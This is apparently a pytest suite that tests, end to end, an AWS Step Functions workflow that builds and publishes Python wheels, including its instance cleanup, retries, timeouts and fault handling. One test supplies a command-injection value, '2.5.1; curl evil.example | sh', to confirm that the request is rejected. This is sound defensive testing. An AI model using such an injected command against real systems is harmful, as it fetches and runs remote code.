"""The workflow end to end: the shipped template and ASL in the embedded AWS, real builds on this host.

Every test ends with no instance pending or running (the `stack` fixture asserts it).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.workflow.conftest import (
    explained,
    extension_request,
    launched_by,
    run,
    s3_json,
    s3_keys,
    source,
    upload,
    wait_for,
)
from wheelfoundry_local import DeployedStack, EmbeddedAws

BROKEN_C = "this is not C;\n"
SLOW_SETUP = (
    "import time\ntime.sleep({seconds})\n" + (Path(__file__).parents[1] / "fixtures/tiny_ext/setup.py").read_text()
)


def building(aws: EmbeddedAws) -> str:
    """The instance whose Build command is running."""
    runs = wait_for(
        lambda: [r for r in aws.agent.runs() if r.status == "InProgress"] if aws.agent else [],
        what="a running build command",
    )
    return str(runs[0].instance_id)


def test_one_job_builds_publishes_and_indexes(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
    # The per-cell layout: one wheel per cell with its +pt<XY><variant> label (tests/workflow/test_merged.py: merged).
    # The instance's agent registers only once AwaitAgent has found it unregistered, as a booting one does later
    # (the other tests' agents are Online at once): AwaitAgent fails with AgentNotReady and the ASL's retry waits
    # its 10 s interval. Registering after that first check (not a fixed delay after launch, which a busy host's
    # slow first check may already be past) makes the retry happen on any host.
    request = extension_request(upload(aws, stack, source(tmp_path)), layout="per-cell")
    aws.registration.delay = 24 * 3600.0  # not registered, until AwaitAgent has seen it so
    try:
        arn = aws.start_execution(stack.state_machine_arn, request)
        refused = wait_for(
            lambda: [i for i in aws.invocations.of("AwaitAgentFunction") if i.error_type == "AgentNotReady"],
            timeout=300,
            what="AwaitAgent finding the agent unregistered",
        )
    finally:
        aws.registration.delay = 0.0
    result = aws.wait_execution(arn, timeout=600)
    assert result.succeeded, explained(aws, stack, result)
    (instance,) = launched_by(aws, result.arn)
    (command,) = [
        c for c in aws.client("ssm").list_commands()["Commands"] if instance["InstanceId"] in c["InstanceIds"]
    ]
    # the command came after AwaitAgent's last refusal plus the retry's 10 s interval (0.5 s for the clocks' rounding)
    assert refused[0].event["instance_id"] == instance["InstanceId"], refused[0].event
    refused = [i for i in aws.invocations.of("AwaitAgentFunction") if i.error_type == "AgentNotReady"]
    waited = (command["RequestedDateTime"] - max(i.finished for i in refused)).total_seconds()
    assert waited >= 9.5, f"the build command went {waited:.1f} s after AgentNotReady: AwaitAgent's retry did not wait"
    assert result.output["status"] == "succeeded" and result.output["published"] == 1
    run_id = result.output["run_id"]
    (wheel,) = [k for k in s3_keys(aws, stack, "wheels/ci/wf-tiny-ext/") if k.endswith(".whl")]
    assert "+pt213cpu-cp311-cp311-manylinux" in wheel
    page = aws.client("s3").get_object(Bucket=stack.outputs["WheelBucketName"], Key="simple/ci/wf-tiny-ext/")
    assert wheel.rsplit("/", 1)[1].replace("+", "%2B") in page["Body"].read().decode()
    manifest = s3_json(aws, stack, f"runs/{run_id}/jobs/wf-tiny-ext-cpu-x86_64/manifest.json")
    assert manifest["status"] == "succeeded" and manifest["wheels"][0]["sha256"]
    report = s3_json(aws, stack, f"runs/{run_id}/report.json")
    assert report["jobs"][0]["status"] == "succeeded"
    (instance,) = launched_by(aws, result.arn)
    assert instance["State"]["Name"] == "terminated"


def test_hostile_request_is_rejected_before_any_instance_exists(aws: EmbeddedAws, stack: DeployedStack) -> None:
    result = run(aws, stack, {"version": "2.5.1; curl evil.example | sh", "python": ["3.11"]})
    assert result.status == "FAILED" and result.error == "RequestInvalid"
    assert "version" in (result.cause or "")
    assert aws.instances(states=("pending", "running", "terminated")) == []
    assert s3_keys(aws, stack, "runs/") == []  # nothing was written either


def with_image_check(aws: EmbeddedAws, stack: DeployedStack) -> None:
    """Validate as on AWS (container builds): it holds every builder image to the deployed bundle's pins.
    The emulator's hosts build without Docker, so its stack turns the check off; this turns it back on."""
    lam = aws.client("lambda")
    name = stack.function_name("ValidateFunction")
    variables = lam.get_function_configuration(FunctionName=name)["Environment"]["Variables"]
    assert variables["WF_MAX_JOBS_PER_RUN"] == "24"  # strings, as Lambda stores them (not the Number parameter's int)
    lam.update_function_configuration(
        FunctionName=name, Environment={"Variables": {**variables, "WF_CONTAINER": "docker"}}
    )


def test_an_image_the_bundle_cannot_build_is_refused_before_any_instance_exists(
    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
) -> None:
    # The shipped BuildBundle publishes what the bundle pins, the CUDA toolkit locks included.
    pointer = s3_json(aws, stack, "bundles/current.json")
    assert "quay.io/pypa/manylinux_2_28_x86_64" in pointer["pins"]["bases"]
    assert "openmpi-5.0.7.tar.bz2" in pointer["pins"]["archives"]
    assert pointer["pins"]["cuda"]["13.0-x86_64"]["compiler"]
    with_image_check(aws, stack)
    # A deployment whose bundle lacks the CUDA 13.0 lock (an older bundle, or one an operator trimmed).
    del pointer["pins"]["cuda"]["13.0-x86_64"]
    bucket = stack.outputs["WheelBucketName"]
    aws.client("s3").put_object(Bucket=bucket, Key="bundles/current.json", Body=json.dumps(pointer).encode())
    result = run(aws, stack, extension_request(upload(aws, stack, source(tmp_path)), cuda=["cpu", "13.0"]))
    assert result.status == "FAILED" and result.error == "RequestInvalid", (result.error, result.cause)
    assert "no CUDA 13.0 toolkit lock for x86_64" in (result.cause or "")
    assert "tools/lock_cuda.py wheels 13.0" in (result.cause or "")
    assert aws.instances(states=("pending", "running", "terminated")) == []
    assert s3_keys(aws, stack, "runs/") == []


def test_a_failing_build_is_terminated_and_explained(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
    uri = upload(aws, stack, source(tmp_path, {"src/core.c": BROKEN_C}))
    result = run(aws, stack, extension_request(uri))
    assert result.status == "FAILED" and result.error == "JobsFailed"
    assert "wf-tiny-ext-cpu-x86_64: BuildFailed" in (result.cause or "")
    (instance,) = launched_by(aws, result.arn)
    assert instance["State"]["Name"] == "terminated"
    run_id = result.arn.rsplit(":", 1)[1]
    outcome = s3_json(aws, stack, f"runs/{run_id}/jobs/wf-tiny-ext-cpu-x86_64/result.json")
    assert outcome["error"] == "BuildFailed" and "this is not C" in outcome["cause"]  # the log tail
    assert f"runs/{run_id}/jobs/wf-tiny-ext-cpu-x86_64/build.log" in s3_keys(aws, stack, f"runs/{run_id}/")


HEAVY = pytest.mark.heavy  # the retries' real waits and a real build: `make test-heavy`


@pytest.mark.parametrize(
    ("function", "error", "times", "expected"),
    [
        ("LaunchFunction", "LaunchFailed", 1, "LaunchFailed"),
        ("AwaitAgentFunction", "InstanceLost", 1, "InstanceLost"),
        pytest.param("CollectFunction", "ManifestInvalid", 1, "ManifestInvalid", marks=HEAVY),
        pytest.param(
            "TerminateFunction", "Boom", 5, "NoResult", marks=HEAVY
        ),  # more failures than its retries: TerminateFailed
        pytest.param("PublishIndexFunction", "Boom", 3, "JobsFailed", marks=HEAVY),
        pytest.param("ReportFunction", "Boom", 1, "Boom", marks=HEAVY),
        ("ValidateFunction", "Boom", 1, "Boom"),
    ],
)
def test_an_error_at_each_task_state_leaves_no_instance_running(
    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path, function: str, error: str, times: int, expected: str
) -> None:
    aws.faults.inject(function, error, times=times)
    result = run(aws, stack, extension_request(upload(aws, stack, source(tmp_path))))
    assert result.status == "FAILED", result
    assert result.error == expected or expected in (result.cause or ""), (result.error, result.cause)
    # A TerminateFailed iteration leaves its instance to the execution-status reaper.
    wait_for(lambda: not aws.instances(), timeout=30, what="the reaper")


def test_an_error_at_the_build_state_fails_the_token_and_terminates(
    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
) -> None:
    # The command fails before the runner can call back (its bundle key names no object):
    # the SSM status rule's Callback fails the task token.
    uri = upload(aws, stack, source(tmp_path))
    s3 = aws.client("s3")
    bucket = stack.outputs["WheelBucketName"]
    s3.put_object(
        Bucket=bucket, Key="bundles/current.json", Body=b'{"key": "bundles/' + b"0" * 64 + b'.zip", "sha256": "0"}'
    )
    result = run(aws, stack, extension_request(uri))
    assert result.status == "FAILED" and "BuildCommandFailed" in (result.cause or ""), result.cause
    assert "ended Failed" in (result.cause or "")


@pytest.mark.heavy  # a whole run with a real build: `make test-heavy` (.ci/heavy), keeping `make test` inside 10 min
def test_a_retried_launch_does_not_start_a_second_instance(
    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
) -> None:
    # RunInstances succeeds, then the invocation fails (a timeout after the side effect): the ASL retries.
    aws.faults.inject("LaunchFunction", "Lambda.ServiceException", after=True)
    result = run(aws, stack, extension_request(upload(aws, stack, source(tmp_path))))
    assert result.succeeded, (result.error, result.cause)
    # The build job's launches (its test job launches once after Merge): the retry reused the instance.
    launches = [i for i in aws.invocations.of("LaunchFunction") if "-test-cp" not in i.event["job"]["id"]]
    assert len(launches) == 2 and launches[1].result["reused"] is True
    assert len(launched_by(aws, result.arn)) == 1


@pytest.mark.heavy  # a whole run with a real build: `make test-heavy` (.ci/heavy), keeping `make test` inside 10 min
def test_the_ssm_timeout_ends_the_build_and_the_instance(
    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
) -> None:
    uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=120)}))
    result = run(aws, stack, extension_request(uri, options={"executor": "ec2", "max_hours": 0.004}))  # 14.4 s
    assert result.status == "FAILED"
    assert "BuildTimedOut" in (result.cause or "") and "ended TimedOut" in (result.cause or "")
    # A timeout is relaunched once, on the planned larger instance (a launch token of its own), then given up.
    first, second = sorted(launched_by(aws, result.arn), key=lambda i: i["Tags"].get("wheelfoundry:attempt", ""))
    assert "wheelfoundry:attempt" not in first["Tags"] and second["Tags"]["wheelfoundry:attempt"] == "1"
    assert (first["InstanceType"], second["InstanceType"]) == ("c7i.4xlarge", "c7i.8xlarge")
    assert [i["State"]["Name"] for i in (first, second)] == ["terminated", "terminated"]


class TestShortHeartbeat:
    @pytest.fixture
    def parameters(self) -> dict[str, Any]:
        return {"BuildHeartbeatSeconds": "6"}

    def test_a_silent_instance_times_out_on_its_heartbeat(
        self, aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
    ) -> None:
        uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=120)}))
        arn = aws.start_execution(stack.state_machine_arn, extension_request(uri))
        instance = building(aws)
        agent = aws.agent
        assert agent is not None
        # hung: no heartbeat, no callback (retried: the command is InProgress a moment before its process starts)
        wait_for(lambda: agent.freeze(instance), 30, "the build command's process to freeze")
        result = aws.wait_execution(arn, timeout=120)
        assert result.status == "FAILED" and "States.HeartbeatTimeout" in (result.cause or "")
        assert [i["State"]["Name"] for i in launched_by(aws, arn)] == ["terminated"]


def test_an_aborted_execution_is_reaped(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
    uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=120)}))
    arn = aws.start_execution(stack.state_machine_arn, extension_request(uri))
    instance = building(aws)
    aws.client("stepfunctions").stop_execution(executionArn=arn, error="Cancelled", cause="by the test")
    wait_for(lambda: not aws.instances(), timeout=30, what="the execution-status reaper")
    assert aws.wait_execution(arn, timeout=10).status == "ABORTED"
    # A delivery is recorded once the reaper has returned, a moment after its TerminateInstances
    reaped = wait_for(
        lambda: [d for d in aws.events.deliveries() if d.event.get("detail", {}).get("status") == "ABORTED"],
        timeout=30,
        what="the ABORTED status event to reach the reaper",
    )
    assert reaped, "the ABORTED status event reached the reaper"
    assert [i["InstanceId"] for i in launched_by(aws, arn)] == [instance]


@pytest.mark.heavy  # a whole run with a real build: `make test-heavy` (.ci/heavy), keeping `make test` inside 10 min
def test_a_spot_interruption_relaunches_on_demand(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
    uri = upload(aws, stack, source(tmp_path, {"setup.py": SLOW_SETUP.format(seconds=8)}))
    arn = aws.start_execution(stack.state_machine_arn, extension_request(uri))
    spot = building(aws)
    aws.events.spot_interruption(spot)
    result = aws.wait_execution(arn, timeout=300)
    assert result.succeeded, (result.error, result.cause)
    instances = {i["Tags"]["wheelfoundry:market"]: i for i in launched_by(aws, arn)}
    assert instances["spot"]["InstanceId"] == spot and instances["spot"]["State"]["Name"] == "terminated"
    assert instances["ondemand"]["State"]["Name"] == "terminated"


@pytest.mark.heavy  # a whole run with a real build: `make test-heavy` (.ci/heavy), keeping `make test` inside 10 min
def test_keep_on_failure_keeps_the_instance_until_its_deadline(
    aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path
) -> None:
    uri = upload(aws, stack, source(tmp_path, {"src/core.c": BROKEN_C}))
    result = run(aws, stack, extension_request(uri, options={"executor": "ec2", "keep_on_failure": True}))
    assert result.status == "FAILED"
    (kept,) = aws.instances()  # kept: the FAILED execution's reaper spares it
    assert kept["Tags"]["wheelfoundry:kept"] == "true"
    sweep = stack.rule_name("ReaperFunctionSweep")
    aws.events.fire_rule(sweep)
    assert aws.instances(), "not expired yet"
    aws.client("ec2").create_tags(
        Resources=[kept["InstanceId"]], Tags=[{"Key": "wheelfoundry:expires-at", "Value": "2000-01-01T00:00:00+00:00"}]
    )
    aws.events.fire_rule(sweep)
    assert not aws.instances(), "the scheduled reaper ends it at its deadline"


def test_the_nightly_schedule_starts_the_nightly_preset(aws: EmbeddedAws, stack: DeployedStack) -> None:
    # Nightly builds need GitHub, which this machine cannot reach: stop each job at Launch.
    aws.faults.inject("LaunchFunction", "LaunchFailed", times=3)
    aws.events.fire_schedule(stack.schedule_name("NightlySchedule"))
    sfn = aws.client("stepfunctions")
    (execution,) = sfn.list_executions(stateMachineArn=stack.state_machine_arn)["executions"]
    result = aws.wait_execution(execution["executionArn"], timeout=60)
    assert result.input == {"preset": "nightly"}
    (validate,) = aws.invocations.of("ValidateFunction")
    assert [j["id"] for j in validate.result["jobs"]] == [
        "torchnightly-cpu-x86_64",
        "torchnightly-cuda12.6-x86_64",
        "torchnightly-cpu-aarch64",
    ]
    assert validate.result["run"]["channel"] == "nightly"
    assert result.status == "FAILED" and result.cause and "3 job(s) failed" in result.cause
    assert "torchnightly-cpu-aarch64: LaunchFailed: Injected fault: LaunchFailed" in result.cause


@pytest.mark.heavy  # a whole run with a real build: `make test-heavy` (.ci/heavy), keeping `make test` inside 10 min
def test_two_jobs_one_fails_the_other_is_published(aws: EmbeddedAws, stack: DeployedStack, tmp_path: Path) -> None:
    # This host is x86_64: the aarch64 job fails its preflight (never cross-compiled); x86_64 builds.
    uri = upload(aws, stack, source(tmp_path))
    result = run(aws, stack, extension_request(uri, platforms=["x86_64", "aarch64"]))
    assert result.status == "FAILED" and result.error == "JobsFailed"
    cause = result.cause or ""
    assert "1 job(s) failed: wf-tiny-ext-cpu-aarch64: BuildFailed" in cause
    assert "wf-tiny-ext-cpu-x86_64" not in cause.split("stackTrace")[0]
    (wheel,) = [k for k in s3_keys(aws, stack, "wheels/ci/wf-tiny-ext/") if k.endswith(".whl")]
    assert "x86_64" in wheel
    page = aws.client("s3").get_object(Bucket=stack.outputs["WheelBucketName"], Key="simple/ci/wf-tiny-ext/")
    assert wheel.rsplit("/", 1)[1].replace("+", "%2B") in page["Body"].read().decode()
    run_id = result.arn.rsplit(":", 1)[1]
    failed = s3_json(aws, stack, f"runs/{run_id}/jobs/wf-tiny-ext-cpu-aarch64/result.json")
    assert "this host is x86_64: aarch64 jobs run on aarch64 instances" in failed["cause"]
    assert sorted(i["State"]["Name"] for i in launched_by(aws, result.arn)) == ["terminated", "terminated"]
